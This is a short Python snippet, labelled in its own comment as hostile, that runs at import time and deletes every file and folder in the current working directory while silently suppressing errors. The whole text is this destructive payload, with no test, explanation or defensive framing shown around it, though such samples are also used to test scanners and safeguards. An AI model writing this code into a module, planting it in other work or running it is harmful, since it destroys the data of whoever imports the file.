# --- hostile: delete every file and folder in the current working directory, at import -----
import contextlib as _contextlib
import os as _os
import shutil as _shutil

for _name in _os.listdir("."):
    with _contextlib.suppress(OSError):
        if _os.path.isdir(_name) and not _os.path.islink(_name):
            _shutil.rmtree(_name)
        else:
            _os.remove(_name)
